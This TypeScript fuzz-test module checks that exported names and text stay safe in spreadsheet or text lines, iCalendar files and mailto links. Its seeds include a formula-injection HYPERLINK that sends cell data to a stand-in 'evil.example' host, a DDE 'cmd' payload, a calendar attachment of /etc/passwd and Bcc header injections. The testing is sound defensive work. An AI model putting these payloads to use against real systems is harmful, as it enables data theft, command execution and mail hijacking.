import type { Inputs } from './inputs'
import { mutated, oneOf } from './mutate'
import { nameInputs } from './names'

const seeds = [
  ...[
    '=1+1',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
  ],
  ...['\r=1', '\uff1d1+1', '"=1+1', ',=1', ';=1', ' =1', '%0A=1', '\n=1+1', 'x\n=1+1', 'x\r\n@SUM(1)'],
  ...[
    'x\r\nATTENDEE:mailto:evil@evil.example',
    'x\nEND:VEVENT\nBEGIN:VEVENT',
    'x\u2028DTSTART:20260101',
    'x\u0085URL:x',
  ],
  ...[
    'x\\nATTACH:file:///etc/passwd',
    'x\\',
    'x;x:y',
    'x,y',
    ':'.repeat(80),
    '漢'.repeat(60),
    'x\r\n BEGIN:VALARM',
    '\\n\\,\\;',
  ],
  ...[
    'x?cc=evil@evil.example',
    'x&bcc=evil@evil.example&body=y',
    'x%0D%0ABcc: evil@evil.example',
    'x\r\nBcc: evil@evil.example',
  ],
  ...[
    'x\nstatus: 200\ntime: 0',
    'x | 2026-01-01 | gap',
    '-----BEGIN',
    '\u202edesrever',
    '\u2067\u2067x',
    'a\0b',
    '\u001b[2J',
  ],
]

/** Names and server's words that end up in a file, on the clipboard or in a letter. */
export const exportInputs: Inputs<string> = {
  name: 'exports',
  count: 500,
  always: seeds,
  make: oneOf([4, mutated(seeds)], [1, nameInputs.make]),
}

const longestLine = 75

type Write = (words: string) => string

const known = new WeakMap<Write, string>()

/** What is written of harmless words, to compare with. */
const plainOf = (write: Write): string => {
  const text = known.get(write) ?? write('plain')
  known.set(write, text)
  return text
}

/** The names of the lines of a calendar's file, unfolded; null where a line is too long or ends otherwise. */
const calendarLines = (file: string): string[] | null => {
  const lines = file.split('\r\n')
  if (lines.pop() !== '' || lines.some(line => /(?!\t)\p{Cc}/u.test(line))) return null
  if (lines.some(line => new TextEncoder().encode(line).length > longestLine)) return null
  return lines.join('\n').replaceAll('\n ', '').split('\n')
}

/** A title in a calendar's file changes no line but those that say it, and is read back as it was. */
export const judgeCalendar = (write: Write, title: string): string | null => {
  const lines = calendarLines(write(title))
  const plain = calendarLines(plainOf(write))
  if (lines === null) return 'makes a broken line'
  const said = lines.find(line => line.startsWith('SUMMARY:'))?.slice('SUMMARY:'.length) ?? ''
  const others = (all: readonly string[] | null) =>
    all?.filter(line => !/^(?:SUMMARY|DESCRIPTION):/.test(line)).join('\n')
  if (others(lines) !== others(plain)) return 'adds or changes a line'
  if (/(?<!\\)(?:\\\\)*[;,]/.test(said)) return 'ends its own value'
  const read = said.replace(/\\([\\;,n])/g, (_, one: string) => (one === 'n' ? '\n' : one))
  const meant = title.replace(/\r\n?|[\u2028\u2029]/g, '\n').replace(/(?!\n)\p{Cc}|\p{Cs}/gu, '')
  return read === meant ? null : `is read back as ${JSON.stringify(read.slice(0, 80))}`
}

/** Words in a text of lines make no line more, hide nothing, and are no formula for a spreadsheet. */
export const judgeLines = (write: Write, words: string): string | null => {
  const lines = write(words).split('\n')
  const plain = plainOf(write).split('\n')
  if (lines.length !== plain.length) return 'makes another line'
  const wrong = lines.find(line => /[\p{Cc}\p{Zl}\p{Zp}]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(line))
  return wrong === undefined ? null : `writes ${JSON.stringify(wrong.slice(0, 80))}`
}

/** The subject of a letter brings no header, no copy and no second reader. */
export const judgeMail = (write: Write, subject: string): string | null => {
  const url = new URL(write(subject))
  const parameters = [...url.searchParams.keys()]
  if (url.protocol !== 'mailto:' || url.pathname !== 'reports@flagship.example')
    return `goes to ${url.pathname}`
  if (parameters.length !== 1 || parameters[0] !== 'subject' || url.hash) return `says ${parameters.join()}`
  const said = url.searchParams.get('subject') ?? ''
  return /\p{Cc}|\u2028/u.test(said) || said.length > 300 ? 'holds another line' : null
}
